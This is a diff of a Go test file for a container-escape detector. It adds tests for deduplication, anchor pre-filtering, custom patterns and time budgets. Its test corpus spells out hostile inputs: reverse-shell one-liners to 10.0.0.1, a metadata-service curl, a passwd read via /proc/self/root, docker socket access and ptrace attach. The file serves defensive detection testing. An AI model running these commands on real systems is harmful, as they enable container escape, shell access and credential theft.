@@ -1,34 +1,40 @@
 package monitor
 
 import (
+	"fmt"
+	"reflect"
+	"strings"
 	"testing"
+	"time"
 )
 
+// analyzeCodeTests is the detector's corpus, also run without the
+// pre-filter to check it misses nothing.
+var analyzeCodeTests = []struct {
+	name         string
+	code         string
+	wantMinCount int // minimum number of detections
+	wantPattern  string
+}{
+	{"proc_self_root", `f = open("/proc/self/root/etc/passwd")`, 1, "proc_self_access"},
+	{"cgroup breakout", `open("/sys/fs/cgroup/notify_on_release")`, 1, "container_breakout"},
+	{"docker socket", `cat /var/run/docker.sock`, 1, "host_mount_access"},
+	{"containerd socket", `ls /var/run/containerd/containerd.sock`, 1, "host_mount_access"},
+	{"host in URL (no false positive)", `fetch("http://localhost:3000/host/status")`, 0, ""},
+	{"dirty_cow", `exploit = dirty_cow_payload()`, 1, "kernel_exploit"},
+	{"metadata service", `curl 169.254.169.254/latest/meta-data/`, 1, "metadata_service"},
+	{"reverse shell", `nc -e /bin/sh 10.0.0.1 4444`, 1, "reverse_shell"},
+	{"cap_sys_admin", `capsh --caps="cap_sys_admin+eip"`, 1, "capability_abuse"},
+	{"ptrace", `ptrace(PTRACE_ATTACH, pid, 0, 0)`, 1, "ptrace_attempt"},
+	{"symlink race", `ln -s /proc/self/ns /tmp/escape`, 1, "symlink_race"},
+	{"crypto miner", `pool.connect("stratum+tcp://pool.mining.com")`, 1, "crypto_miner"},
+	{"clean code", `print("hello world")`, 0, ""},
+}
+
 func TestAnalyzeCode(t *testing.T) {
 	d := NewEscapeDetector()
 
-	tests := []struct {
-		name         string
-		code         string
-		wantMinCount int // minimum number of detections
-		wantPattern  string
-	}{
-		{"proc_self_root", `f = open("/proc/self/root/etc/passwd")`, 1, "proc_self_access"},
-		{"cgroup breakout", `open("/sys/fs/cgroup/notify_on_release")`, 1, "container_breakout"},
-		{"docker socket", `cat /var/run/docker.sock`, 1, "host_mount_access"},
-		{"containerd socket", `ls /var/run/containerd/containerd.sock`, 1, "host_mount_access"},
-		{"host in URL (no false positive)", `fetch("http://localhost:3000/host/status")`, 0, ""},
-		{"dirty_cow", `exploit = dirty_cow_payload()`, 1, "kernel_exploit"},
-		{"metadata service", `curl 169.254.169.254/latest/meta-data/`, 1, "metadata_service"},
-		{"reverse shell", `nc -e /bin/sh 10.0.0.1 4444`, 1, "reverse_shell"},
-		{"cap_sys_admin", `capsh --caps="cap_sys_admin+eip"`, 1, "capability_abuse"},
-		{"ptrace", `ptrace(PTRACE_ATTACH, pid, 0, 0)`, 1, "ptrace_attempt"},
-		{"symlink race", `ln -s /proc/self/ns /tmp/escape`, 1, "symlink_race"},
-		{"crypto miner", `pool.connect("stratum+tcp://pool.mining.com")`, 1, "crypto_miner"},
-		{"clean code", `print("hello world")`, 0, ""},
-	}
-
-	for _, tt := range tests {
+	for _, tt := range analyzeCodeTests {
 		t.Run(tt.name, func(t *testing.T) {
 			dets := d.AnalyzeCode(tt.code)
 			if len(dets) < tt.wantMinCount {
@@ -102,3 +108,144 @@ func TestSeverityString(t *testing.T) {
 		})
 	}
 }
+
+func TestDedupe(t *testing.T) {
+	d := NewEscapeDetector()
+	code := strings.Repeat("cat /proc/self/maps\n", 50) + "setcap cap_net_raw+ep ./x\ncat /proc/self/status\n"
+	dets := Dedupe(d.AnalyzeCode(code))
+
+	if len(dets) != 2 {
+		t.Fatalf("got %d detections, want one per pattern: %+v", len(dets), dets)
+	}
+	if dets[0].Pattern != "proc_self_access" || dets[0].Line != 1 || dets[0].Count != 51 {
+		t.Errorf("first detection = %+v, want proc_self_access at line 1 with count 51", dets[0])
+	}
+	if dets[1].Pattern != "capability_abuse" || dets[1].Line != 51 || dets[1].Count != 1 {
+		t.Errorf("second detection = %+v", dets[1])
+	}
+}
+
+func TestAnchorSet(t *testing.T) {
+	patterns := []DetectionPattern{
+		{Name: "he", Anchors: []string{"he"}},
+		{Name: "she", Anchors: []string{"she"}},
+		{Name: "his", Anchors: []string{"his"}},
+		{Name: "hers", Anchors: []string{"hers", "HIM"}},
+		{Name: "unanchored"},
+	}
+	s := newAnchorSet(patterns)
+	hits := make([]bool, len(patterns))
+	for text, want := range map[string][]bool{
+		"ushers":  {true, true, false, true, true},
+		"USHERS":  {true, true, false, true, true},
+		"this":    {false, false, true, false, true},
+		"him":     {false, false, false, true, true},
+		"h-e s-h": {false, false, false, false, true},
+		"":        {false, false, false, false, true},
+	} {
+		s.candidates(text, hits)
+		if !reflect.DeepEqual(hits, want) {
+			t.Errorf("%q: hits %v, want %v", text, hits, want)
+		}
+	}
+}
+
+// TestPrefilter_NoMissedDetections runs the corpus through the detector
+// with and without anchors and checks the pre-filter changes nothing.
+func TestPrefilter_NoMissedDetections(t *testing.T) {
+	filtered := NewEscapeDetector()
+	unanchored := defaultPatterns()
+	for i := range unanchored {
+		unanchored[i].Anchors = nil
+	}
+	exhaustive := &EscapeDetector{patterns: unanchored, anchors: newAnchorSet(unanchored), now: time.Now}
+
+	codes := []string{
+		"PTRACE_ATTACH", "XMRig --donate-level 1", "DIRTY_COW", "OverlayFS", "Bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
+		"NCAT -l 4444", "socat TCP:host:1 EXEC:sh", "ln -sf /dev/sda x", "Metadata.Google.Internal",
+	}
+	var all []string
+	for _, tt := range analyzeCodeTests {
+		codes = append(codes, tt.code)
+		all = append(all, tt.code)
+	}
+	codes = append(codes, strings.Join(all, "\n"), strings.Join(all, "; "))
+	for _, code := range codes {
+		got, want := filtered.AnalyzeCode(code), exhaustive.AnalyzeCode(code)
+		if !reflect.DeepEqual(got, want) {
+			t.Errorf("%q: pre-filtered %v, exhaustive %v", code, got, want)
+		}
+	}
+}
+
+func TestNewEscapeDetectorWithOptions(t *testing.T) {
+	nsenter := DetectionPattern{Name: "nsenter", Description: "Entering the host's namespaces", Severity: SeverityCritical}
+	nsenter.Regex = defaultPatterns()[0].Regex
+	if _, err := NewEscapeDetectorWithOptions(DetectorOptions{Patterns: []DetectionPattern{nsenter}}); err == nil || !strings.Contains(err.Error(), "no anchors") {
+		t.Errorf("pattern without anchors: err = %v", err)
+	}
+	if _, err := NewEscapeDetectorWithOptions(DetectorOptions{MaxLineLength: chunkOverlap}); err == nil {
+		t.Error("max line length within the chunk overlap accepted")
+	}
+
+	nsenter.Anchors = []string{"/proc/self/"}
+	d, err := NewEscapeDetectorWithOptions(DetectorOptions{Patterns: []DetectionPattern{nsenter}})
+	if err != nil {
+		t.Fatal(err)
+	}
+	dets := d.AnalyzeCode("cat /proc/self/status")
+	if len(dets) != 2 || dets[1].Pattern != "nsenter" {
+		t.Errorf("custom pattern: %+v", dets)
+	}
+}
+
+func TestAnalyze_Budget(t *testing.T) {
+	const lines = 20000
+	code := strings.Repeat("cat /proc/self/maps\n", lines)
+
+	d := NewEscapeDetector()
+	var clock time.Time
+	d.now = func() time.Time {
+		clock = clock.Add(time.Millisecond)
+		return clock
+	}
+	a := d.Analyze(code)
+	if !a.Partial {
+		t.Fatal("not partial")
+	}
+	// The clock is read at the start and then every clockEvery lines, so
+	// the first lines up to DefaultAnalysisBudget's worth are scanned.
+	full := int(DefaultAnalysisBudget/time.Millisecond) * clockEvery
+	for i := 0; i < full; i++ {
+		if a.Detections[i].Line != i+1 {
+			t.Fatalf("line %d not scanned before the budget ran out", i+1)
+		}
+	}
+	if n := len(a.Detections); n > full+lines/sampleEvery+1 || a.Detections[n-1].Line < lines-sampleEvery {
+		t.Errorf("%d detections, last on line %d: not a sample of the rest", n, a.Detections[n-1].Line)
+	}
+
+	d.budget = 0
+	if a := d.Analyze(code); a.Partial || len(a.Detections) != lines {
+		t.Errorf("without a budget: partial %v, %d detections", a.Partial, len(a.Detections))
+	}
+}
+
+func TestAnalyze_LongLines(t *testing.T) {
+	d := NewEscapeDetector()
+	filler := strings.Repeat("x", 1<<20)
+	for _, at := range []int{0, DefaultMaxLineLength - 5, DefaultMaxLineLength - chunkOverlap + 3, 1<<20 - 5} {
+		code := filler[:at] + "/proc/self/root" + filler[at:]
+		dets := d.AnalyzeCode(code)
+		if len(dets) != 1 || dets[0].Pattern != "proc_self_access" || dets[0].Line != 1 {
+			t.Errorf("at %d: %+v", at, dets)
+		}
+	}
+
+	// Several matches in one long line are one detection, as for a short
+	// one.
+	code := strings.Repeat(fmt.Sprintf("%s/proc/self/fd", filler[:3000]), 100) + "\nsetcap x"
+	if dets := d.AnalyzeCode(code); len(dets) != 2 || dets[1].Line != 2 {
+		t.Errorf("repeated in a long line: %+v", dets)
+	}
+}